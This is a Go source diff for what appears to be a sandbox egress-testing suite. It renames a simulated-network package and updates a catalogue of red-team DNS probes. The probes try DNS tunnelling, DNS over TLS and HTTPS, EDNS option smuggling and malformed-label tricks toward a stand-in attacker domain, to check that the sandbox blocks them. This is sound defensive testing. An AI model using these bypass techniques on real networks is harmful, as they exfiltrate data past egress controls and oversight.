@@ -10,7 +10,7 @@ import (
 	"github.com/miekg/dns"
 
 	"github.com/custody-project/custody/netpolicy"
-	"github.com/custody-project/custody/redteam/world"
+	"github.com/custody-project/custody/redteam/simnet"
 )
 
 // names are the probes of DNS: other resolvers, and ours as a tunnel.
@@ -25,35 +25,35 @@ func (c *catalogue) otherResolvers() {
 	ask := func(proto string, port int, to func(Family) netip.Addr) func(Family) Probe {
 		return func(v Family) Probe {
 			t := &task{Do: "talk", Host: to(v).String(), Family: v.number(), Port: port, Proto: proto}
-			t.Send = []piece{{Data: question(c.token()+"."+world.Attacker, dns.TypeA, proto == "tcp")}}
+			t.Send = []piece{{Data: question(c.token()+"."+simnet.Attacker, dns.TypeA, proto == "tcp")}}
 			return Probe{task: t}
 		}
 	}
 	c.both("dns/other-resolver-udp", "ask a resolver of one's own over UDP", DNSTunnel, ask("udp", 53, c.victim))
 	c.both("dns/other-resolver-tcp", "ask a resolver of one's own over TCP", DNSOverTCP, ask("tcp", 53, c.victim))
 	c.both("dns/hosts-resolver", "ask the resolver that the host itself uses", DNSTunnel, ask("udp", 53, func(v Family) netip.Addr {
-		return v.of(world.Resolver4.Addr(), world.Resolver6.Addr())
+		return v.of(simnet.Resolver4.Addr(), simnet.Resolver6.Addr())
 	}))
 	c.both("dns/over-tls", "ask over DNS over TLS", DoT, func(v Family) Probe {
 		return Probe{task: &task{
-			Do: "talk", Host: c.victim(v).String(), Family: v.number(), Port: 853, TLS: &tlsTask{SNI: "dns." + world.Attacker},
-			Send: []piece{{Data: question(c.token()+"."+world.Attacker, dns.TypeA, true)}},
+			Do: "talk", Host: c.victim(v).String(), Family: v.number(), Port: 853, TLS: &tlsTask{SNI: "dns." + simnet.Attacker},
+			Send: []piece{{Data: question(c.token()+"."+simnet.Attacker, dns.TypeA, true)}},
 		}}
 	})
 	post := func(token string) []piece {
-		q := question(token+"."+world.Attacker, dns.TypeA, false)
+		q := question(token+"."+simnet.Attacker, dns.TypeA, false)
 		return once(fmt.Sprintf("POST /dns-query HTTP/1.1\r\nHost: dns.%s\r\nContent-Type: application/dns-message\r\nContent-Length: %d\r\n\r\n%s",
-			world.Attacker, len(q), q))
+			simnet.Attacker, len(q), q))
 	}
 	c.both("dns/over-https", "ask over HTTPS, at an address", DoH, func(v Family) Probe {
 		return Probe{task: &task{
-			Do: "talk", Host: c.victim(v).String(), Family: v.number(), Port: 443, TLS: &tlsTask{SNI: "dns." + world.Attacker}, Send: post(c.token()),
+			Do: "talk", Host: c.victim(v).String(), Family: v.number(), Port: 443, TLS: &tlsTask{SNI: "dns." + simnet.Attacker}, Send: post(c.token()),
 		}}
 	})
 	token := c.token()
 	c.add(Probe{
 		ID: "dns/over-https-by-name", Title: "ask over HTTPS, at a name that no rule names", Bypass: DoH,
-		task: &task{Do: "talk", Name: token + "." + world.Attacker, Port: 443, TLS: &tlsTask{SNI: "dns." + world.Attacker}, Send: post(token)},
+		task: &task{Do: "talk", Name: token + "." + simnet.Attacker, Port: 443, TLS: &tlsTask{SNI: "dns." + simnet.Attacker}, Send: post(token)},
 	})
 }
 
@@ -61,88 +61,88 @@ func (c *catalogue) otherResolvers() {
 func (c *catalogue) tunnels() {
 	c.add(Probe{
 		ID: "dns/resolve-first", Title: "have a name resolved that is denied only at the connection", Bypass: ResolveFirst,
-		task: &task{Do: "talk", Name: c.token() + "." + world.Attacker, Port: 80, Send: once("GET / HTTP/1.1\r\n\r\n")},
+		task: &task{Do: "talk", Name: c.token() + "." + simnet.Attacker, Port: 80, Send: once("GET / HTTP/1.1\r\n\r\n")},
 	})
 	c.ask("dns/tunnel-labels", "data in the labels of an attacker's name", DNSTunnel, "udp", func(token string) []byte {
 		label := strings.Repeat("0123456789abcdef", 3) + "0123"
-		return question(strings.Join([]string{token, label, label, label}, ".")+"."+world.Attacker, dns.TypeA, false)
+		return question(strings.Join([]string{token, label, label, label}, ".")+"."+simnet.Attacker, dns.TypeA, false)
 	})
 	c.ask("dns/tunnel-tcp", "the same over TCP", DNSOverTCP, "tcp", func(token string) []byte {
-		return question(token+"."+world.Attacker, dns.TypeTXT, true)
+		return question(token+"."+simnet.Attacker, dns.TypeTXT, true)
 	})
 	for _, qtype := range []uint16{dns.TypeTXT, dns.TypeNULL, dns.TypeANY, dns.TypeMX, dns.TypeSRV, dns.TypeCNAME, dns.TypeSVCB} {
 		kind := dns.TypeToString[qtype]
 		c.ask("dns/tunnel-"+strings.ToLower(kind), "a "+kind+" question for an attacker's name", DNSTunnel, "udp", func(token string) []byte {
-			return question(token+"."+world.Attacker, qtype, false)
+			return question(token+"."+simnet.Attacker, qtype, false)
 		})
 	}
 	c.ask("dns/unnamed-sibling", "a name beside an allowed one", ResolveFirst, "udp", func(token string) []byte {
-		return question(token+"."+world.Zone, dns.TypeA, false)
+		return question(token+"."+simnet.Zone, dns.TypeA, false)
 	})
 	c.ask("dns/wildcard-txt", "a TXT question below an allowed wildcard", DNSTunnel, "udp", func(token string) []byte {
-		return question(token+"."+world.Wild, dns.TypeTXT, false)
+		return question(token+"."+simnet.Wild, dns.TypeTXT, false)
 	})
 	token := c.token()
 	var list []string
 	for i := range 24 {
-		list = append(list, fmt.Sprintf("%s-%s%02x.%s", token, strings.Repeat("9f3k7q", 7), i, world.Wild))
+		list = append(list, fmt.Sprintf("%s-%s%02x.%s", token, strings.Repeat("9f3k7q", 7), i, simnet.Wild))
 	}
 	c.add(Probe{
 		ID: "dns/wildcard-labels", Title: "data in labels below an allowed wildcard: nothing of it goes upstream, and it is reported", Bypass: DNSTunnel,
-		task: &task{Do: "flood", Names: list}, check: onlySynthetic, proof: found("dns-tunnel", world.Wild),
+		task: &task{Do: "flood", Names: list}, check: onlySynthetic, proof: found("dns-tunnel", simnet.Wild),
 	})
 }
 
 // questions are such as a resolver may take for others than they are.
 func (c *catalogue) questions() {
 	c.ask("dns/ech-gateway", "an HTTPS question, for the key of ECH, for a name through the gateway", ECH, "udp", func(token string) []byte {
-		return question("ech-"+token+"."+world.Rebind, dns.TypeHTTPS, false)
+		return question("ech-"+token+"."+simnet.Rebind, dns.TypeHTTPS, false)
 	}).proof = asked
 	p := c.ask("dns/ech-direct", "the same for a direct name", ECH, "udp", func(token string) []byte {
-		return question("ech-"+token+"."+world.RebindDirect, dns.TypeHTTPS, false)
+		return question("ech-"+token+"."+simnet.RebindDirect, dns.TypeHTTPS, false)
 	})
 	p.proof, p.allowed = asked, asks
 	c.ask("dns/any-direct", "an ANY question for a direct name", DNSTunnel, "udp", func(token string) []byte {
-		return question("public-"+token+"."+world.RebindDirect, dns.TypeANY, false)
+		return question("public-"+token+"."+simnet.RebindDirect, dns.TypeANY, false)
 	})
 	for _, o := range []struct {
 		id     string
 		option dns.EDNS0
 	}{
-		{"client-subnet", &dns.EDNS0_SUBNET{Code: dns.EDNS0SUBNET, Family: 1, SourceNetmask: 32, Address: world.Attacker4.AsSlice()}},
+		{"client-subnet", &dns.EDNS0_SUBNET{Code: dns.EDNS0SUBNET, Family: 1, SourceNetmask: 32, Address: simnet.Attacker4.AsSlice()}},
 		{"edns-option", &dns.EDNS0_LOCAL{Code: 65001, Data: []byte("data for the upstream server")}},
 		{"edns-cookie", &dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: "6461746164617461"}},
 	} {
 		p := c.ask("dns/"+o.id, "data in an option of EDNS, with an allowed question", DNSTunnel, "udp", func(token string) []byte {
-			return question("public-"+token+"."+world.RebindDirect, dns.TypeA, false, o.option)
+			return question("public-"+token+"."+simnet.RebindDirect, dns.TypeA, false, o.option)
 		})
 		p.allowed, p.check, p.proof = asks, nil, asked
 	}
 	c.ask("dns/two-questions", "an allowed question with another behind it", DNSTunnel, "udp", func(token string) []byte {
-		m := message(world.Allowed, dns.TypeA)
-		m.Question = append(m.Question, dns.Question{Name: token + "." + world.Attacker + ".", Qtype: dns.TypeA, Qclass: dns.ClassINET})
+		m := message(simnet.Allowed, dns.TypeA)
+		m.Question = append(m.Question, dns.Question{Name: token + "." + simnet.Attacker + ".", Qtype: dns.TypeA, Qclass: dns.ClassINET})
 		return wire(m, false)
 	}).proof = flawed("one question")
 	c.ask("dns/update", "an update of an attacker's zone", DNSTunnel, "udp", func(token string) []byte {
-		m := message(token+"."+world.Attacker, dns.TypeSOA)
+		m := message(token+"."+simnet.Attacker, dns.TypeSOA)
 		m.Opcode = dns.OpcodeUpdate
 		return wire(m, false)
 	}).proof = flawed("standard query")
 	c.ask("dns/dot-in-label", "a dot inside of a label, so that a name looks like one below an allowed wildcard", DNSTunnel, "udp", func(token string) []byte {
-		return question(token+`\.wild.`+world.Zone, dns.TypeA, false)
+		return question(token+`\.wild.`+simnet.Zone, dns.TypeA, false)
 	})
 	c.ask("dns/zero-in-label", "a NUL inside of a name, behind which the attacker's zone stands", DNSTunnel, "udp", func(token string) []byte {
-		return question(token+"."+world.Wild+`\000.`+world.Attacker, dns.TypeA, false)
+		return question(token+"."+simnet.Wild+`\000.`+simnet.Attacker, dns.TypeA, false)
 	})
 	c.ask("dns/class", "a question of another class than IN", DNSTunnel, "udp", func(token string) []byte {
-		m := message(token+"."+world.Wild, dns.TypeA)
+		m := message(token+"."+simnet.Wild, dns.TypeA)
 		m.Question[0].Qclass = dns.ClassCHAOS
 		return wire(m, false)
 	})
 }
 
-// optionData is how the data in the options above is told by the world's resolver.
-var optionData = []string{world.Attacker4.String(), "64617461"}
+// optionData is how the world's resolver prints the data in the options above.
+var optionData = []string{simnet.Attacker4.String(), "64617461"}
 
 // ask adds a question to the sandbox's own resolver, which must not give any
 // answer to it, and returns the probe.
